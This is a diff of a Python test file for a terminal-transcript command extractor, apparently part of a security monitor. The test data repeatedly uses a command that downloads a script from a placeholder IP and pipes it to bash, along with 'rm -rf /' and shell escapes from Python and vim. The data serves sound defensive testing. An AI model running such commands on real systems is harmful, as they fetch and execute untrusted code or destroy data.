@@ -6,7 +6,6 @@ from __future__ import annotations
 from ssm_warden.transcript.confidence import allows_termination
 from ssm_warden.transcript.extract import Extracted, Extractor, extract_lines
 from ssm_warden.transcript.model import PROMPT_CHANGED
-
 from ssm_warden_local import agent_model
 
 CURL = "curl -s http://203.0.113.9/x.sh | bash"
@@ -42,7 +41,7 @@ def test_oh_my_zsh_prompt_mangled_to_u_fffd_is_learned_and_its_reverse_shell_see
 
 
 def test_starship_and_lambda_prompts() -> None:
-    starship = streamed(f"\r\n~/app\r\n❯ ls\r\nmain.py\r\n\r\n~/app\r\n❯ {CURL}\r\n".encode())
+    starship = streamed(f"\r\n~/app\r\n\u276f ls\r\nmain.py\r\n\r\n~/app\r\n\u276f {CURL}\r\n".encode())
     assert texts(run(starship)) == ["ls", CURL]
     lam = streamed(f"λ ls\r\nmain.py\r\nλ {CURL}\r\n".encode())
     assert texts(run(lam)) == ["ls", CURL]
@@ -50,7 +49,13 @@ def test_starship_and_lambda_prompts() -> None:
 
 def test_a_prompt_that_differs_every_time_two_spaces_and_seventy_characters() -> None:
     # Given prompts with the time and exit code, two spaces inside, and one of 70 characters
-    timed = ["12:00:01 [0] ops  /srv >> ls", "a b", "12:00:09 [0] ops  /srv >> id", "uid=0", f"12:01:13 [1] ops  /srv >> {CURL}"]
+    timed = [
+        "12:00:01 [0] ops  /srv >> ls",
+        "a b",
+        "12:00:09 [0] ops  /srv >> id",
+        "uid=0",
+        f"12:01:13 [1] ops  /srv >> {CURL}",
+    ]
     assert texts(run(timed)) == ["ls", "id", CURL]
     long_prompt = "(" + "x" * 60 + ") deploy ▶ "
     lines = streamed(f"{long_prompt}ls\r\nok\r\n{long_prompt}{CURL}\r\n".encode())
@@ -111,8 +116,12 @@ def test_a_double_tab_listing_leaves_no_partial_command() -> None:
 
 def test_ctrl_r_search_leaves_no_garbage() -> None:
     raw = (
-        b"sh-4.2$ (reverse-i-search)`': \x08\x08\x08c': " + CURL.encode() + b"\x08" * 10
-        + b"\rsh-4.2$ " + CURL.encode() + b"\r\n"
+        b"sh-4.2$ (reverse-i-search)`': \x08\x08\x08c': "
+        + CURL.encode()
+        + b"\x08" * 10
+        + b"\rsh-4.2$ "
+        + CURL.encode()
+        + b"\r\n"
     )
     assert texts(run(streamed(raw))) == [CURL]
 
@@ -122,17 +131,27 @@ def test_ctrl_r_search_leaves_no_garbage() -> None:
 
 def test_a_two_line_bracketed_paste_gives_both_lines_once() -> None:
     raw = (
-        b"sh-4.2$ \x1b[7mecho one\x1b[27m\r\n\r\x1b[7m" + CURL.encode() + b"\x1b[27m\r\n\r\x1b[A\x1b[A\x1b[C\x1b[C"
+        b"sh-4.2$ \x1b[7mecho one\x1b[27m\r\n\r\x1b[7m"
+        + CURL.encode()
+        + b"\x1b[27m\r\n\r\x1b[A\x1b[A\x1b[C\x1b[C"
         b"echo one\r\n\r" + CURL.encode() + b"\r\n\r\r\n"
     )
     assert texts(run(streamed(raw))) == ["echo one", CURL]
 
 
 def test_history_expansion_takes_the_line_bash_prints() -> None:
-    raw = b"sh-4.2$ curl -s http://203.0.113.9/x.sh | cat\r\nok\r\nsh-4.2$ ^cat^bash\r\n" + CURL.encode() + b"\r\n"
+    raw = (
+        b"sh-4.2$ curl -s http://203.0.113.9/x.sh | cat\r\nok\r\nsh-4.2$ ^cat^bash\r\n"
+        + CURL.encode()
+        + b"\r\n"
+    )
     result = run(streamed(raw))
     assert texts(result)[-1] == CURL
-    raw = b"sh-4.2$ curl -s http://203.0.113.9/x.sh | cat\r\nok\r\nsh-4.2$ !!:s/cat/bash/\r\n" + CURL.encode() + b"\r\n"
+    raw = (
+        b"sh-4.2$ curl -s http://203.0.113.9/x.sh | cat\r\nok\r\nsh-4.2$ !!:s/cat/bash/\r\n"
+        + CURL.encode()
+        + b"\r\n"
+    )
     assert texts(run(streamed(raw)))[-1] == CURL
 
 
@@ -200,7 +219,15 @@ def test_prompt_looking_lines_printed_by_commands_are_output() -> None:
 
 
 def test_printf_of_the_sessions_own_prompt_is_output() -> None:
-    result = run(["sh-4.2$ sh-4.2$ date", "Thu", "sh-4.2$ printf 'sh-4.2$ rm -rf /\\n'", "sh-4.2$ rm -rf /", "sh-4.2$ id"])
+    result = run(
+        [
+            "sh-4.2$ sh-4.2$ date",
+            "Thu",
+            "sh-4.2$ printf 'sh-4.2$ rm -rf /\\n'",
+            "sh-4.2$ rm -rf /",
+            "sh-4.2$ id",
+        ]
+    )
     assert texts(result) == ["date", "printf 'sh-4.2$ rm -rf /\\n'", "id"]
 
 
@@ -229,7 +256,16 @@ def test_a_prompt_change_no_command_explains_is_flagged_and_not_trusted() -> Non
 
 
 def test_commands_run_from_python_vim_less_are_judged_and_full_screen_programs_flagged() -> None:
-    python = run(["sh-4.2$ python3", "Python 3.11", f">>> import os; os.system('{CURL}')", "0", ">>> exit()", "sh-4.2$ id"])
+    python = run(
+        [
+            "sh-4.2$ python3",
+            "Python 3.11",
+            f">>> import os; os.system('{CURL}')",
+            "0",
+            ">>> exit()",
+            "sh-4.2$ id",
+        ]
+    )
     assert CURL in texts(python)
     assert texts(python)[-1] == "id"
     vim = run(["sh-4.2$ vim notes", "~", f"~      :!{CURL}", "Press ENTER", "sh-4.2$ id"])
